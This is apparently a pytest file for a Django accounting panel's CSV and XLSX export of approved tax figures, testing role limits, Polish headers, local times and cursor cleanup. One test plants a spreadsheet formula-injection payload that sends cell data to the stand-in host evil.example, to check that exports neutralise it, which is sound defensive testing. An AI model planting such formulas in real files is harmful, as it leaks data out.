"""Export of approved figures (CSV, XLSX) for a month or a company: approved values only, roles respected."""

import csv
import gc
import inspect
import io
import types
from datetime import datetime
from decimal import Decimal

from django.db import connection
from django.utils import timezone
from openpyxl import load_workbook

from clients.models import Company, Revision, RevisionState
from offices.accounts.models import OfficeSettings
from sync.ingest import apply_batch
from tests.clients import batches as b
from tests.conftest import NIP_B, NIP_X, NIP_Y
from tests.offices.panel_support import bookkeeper, in_office  # noqa: F401

URL = "/panel/export/download/"


def _csv(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:]), delimiter=";"))


def test_month_as_csv_has_only_approved_values(office_client, cast):
    response = office_client(cast.office_a, cast.alice).get(URL, {"period": "2026-01", "format": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert 'filename="biurko-2026-01.csv"' in response["Content-Disposition"]
    header, *rows = _csv(response)
    assert len(header) == 11
    values = {(row[0], row[3]): row[5] for row in rows}
    # X's January VAT: the approved 1000,00 (decimal comma: Polish Excel reads it as a number), not the pending one
    assert values[(NIP_X, "VAT")] == "1000,00"
    assert values[(NIP_Y, "Zaliczka na podatek dochodowy od osób prawnych (CIT)")] == "90,00"
    assert all(row[2] == "2026-01" for row in rows)
    assert not any(row[5] == "1050,00" for row in rows)


def test_company_as_xlsx(office_client, cast):
    client = office_client(cast.office_a, cast.alice)
    response = client.get(URL, {"company": cast.company_x.pk, "format": "xlsx"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert {row[0] for row in rows[1:]} == {NIP_X}
    amounts = {row[3]: row[5] for row in rows[1:]}
    assert Decimal(str(amounts["VAT"])) == Decimal("1000")
    assert "2026-02" not in {row[2] for row in rows[1:]}  # February's VAT was never approved
    assert client.get("/panel/export/", {"company": cast.company_x.pk}).status_code == 200


def test_without_a_month_or_company_the_form_says_so(office_client, cast):
    response = office_client(cast.office_a, cast.alice).get(URL, {"format": "csv"})
    assert response.status_code == 400
    assert response.context["form"].non_field_errors()


def test_limited_bookkeeper_exports_only_their_companies(office_client, cast, bookkeeper):  # noqa: F811
    with in_office(cast.office_a):
        row = OfficeSettings.load()
        row.bookkeepers_see_assigned_only = True
        row.save()
        type(cast.company_y).objects.filter(pk=cast.company_y.pk).update(assigned_to=bookkeeper)
    client = office_client(cast.office_a, bookkeeper)
    rows = _csv(client.get(URL, {"period": "2026-01", "format": "csv"}))[1:]
    assert {row[0] for row in rows} == {NIP_Y}
    assert client.get(URL, {"company": cast.company_x.pk, "format": "csv"}).status_code == 404


def test_clients_and_other_offices_get_nothing(office_client, cast):
    assert office_client(cast.office_a, cast.bob).get(URL, {"period": "2026-01"}).status_code == 404
    response = office_client(cast.office_b, cast.dave).get(URL, {"period": "2026-01", "format": "csv"})
    assert {row[0] for row in _csv(response)[1:]} == {NIP_B}


def test_exports_speak_polish_in_local_time_without_codes(office_client, cast):
    client = office_client(cast.office_a, cast.alice)
    header, *rows = _csv(client.get(URL, {"company": cast.company_x.pk, "format": "csv"}))
    assert header[:6] == ["NIP", "Firma", "Miesiąc", "Pozycja", "Płatnik (PESEL lub NIP)", "Kwota (zł)"]
    text = ";".join(";".join(row) for row in rows)
    for code in ("tax:", "zus:", "statement:", "file_import", "declaration", "optima"):
        assert code not in text
    with in_office(cast.office_a):
        approved_at = Revision.objects.filter(figure__company=cast.company_x, state=RevisionState.APPROVED).first(
            ).approved_at
    local = timezone.localtime(approved_at).strftime("%Y-%m-%d %H:%M")
    assert local in {row[9] for row in rows}  # the panel's (Warsaw) time, not UTC

    sheet = load_workbook(io.BytesIO(client.get(URL, {"company": cast.company_x.pk, "format": "xlsx"}).content)).active
    cells = list(sheet.iter_rows(min_row=2, values_only=True))
    assert all(isinstance(row[5], float | int) for row in cells)  # real numbers
    assert all(isinstance(row[6], datetime) for row in cells if row[6])  # real dates
    assert timezone.localtime(approved_at).replace(tzinfo=None, second=0, microsecond=0) in {
        row[9].replace(second=0, microsecond=0) for row in cells}


def test_an_empty_selection_says_so_instead_of_downloading_a_header(office_client, cast):
    response = office_client(cast.office_a, cast.alice).get(URL, {"period": "2019-01", "format": "csv"})
    assert response.status_code == 200
    assert "Content-Disposition" not in response
    assert "Nie ma czego eksportować" in response.content.decode()


def test_text_from_agents_never_becomes_a_formula(office_client, cast):
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Kliknij")'
    nip = b.make_nip(7301)
    with in_office(cast.office_a):
        apply_batch(b.batch(b.company(0, nip, evil, taxes=[b.tax(0, "2026-03", "VAT-7", "10")]), approve=True), None)
        company = Company.objects.get(nip=nip)
    client = office_client(cast.office_a, cast.alice)
    rows = _csv(client.get(URL, {"company": company.pk, "format": "csv"}))[1:]
    assert rows[0][1] == "'" + evil
    workbook = load_workbook(io.BytesIO(client.get(URL, {"company": company.pk, "format": "xlsx"}).content))
    cell = workbook.active.cell(row=2, column=2)
    assert cell.data_type == "s" and cell.value == evil


# --- A download left unread does not outlive its test ----------------------------------------------------------------
# A CSV export streams from a server-side cursor opened in the view (it reads the first row to refuse an
# empty export). Django's test client closes a streamed response only once its content has been read, so a
# test that checks only the status code left the cursor open and its generator in a reference cycle; the
# garbage collector finalised it later, in another test: CLOSE of a cursor its test's rollback had dropped
# ("current transaction is aborted" in the next query), or, when the collection hit in the middle of a
# query, a deadlock on psycopg's connection lock (the suite hung with the connection idle in transaction).
# The two tests run in this order (the suite runs in file order).


def test_an_export_left_unread_is_closed_with_its_test(office_client, cast):
    response = office_client(cast.office_a, cast.alice).get(URL, {"company": cast.company_x.pk, "format": "csv"})
    assert response.status_code == 200 and response.streaming  # the content is deliberately not read


def test_the_next_test_finds_no_cursor_or_stream_left_behind(cast):
    # type(), not isinstance(): the latter would set up lazy objects (admin.site) met on the way.
    streams = [item for item in gc.get_objects() if type(item) is types.GeneratorType
               and item.__name__ == "approved_rows" and inspect.getgeneratorstate(item) != inspect.GEN_CLOSED]
    assert streams == []
    gc.collect()  # would finalise a stream left behind, as a later collection anywhere in the suite did
    with connection.cursor() as cursor:
        cursor.execute("SELECT count(*) FROM pg_cursors")
        assert cursor.fetchone()[0] == 0
    with in_office(cast.office_a):
        assert Company.objects.filter(pk=cast.company_x.pk).exists()
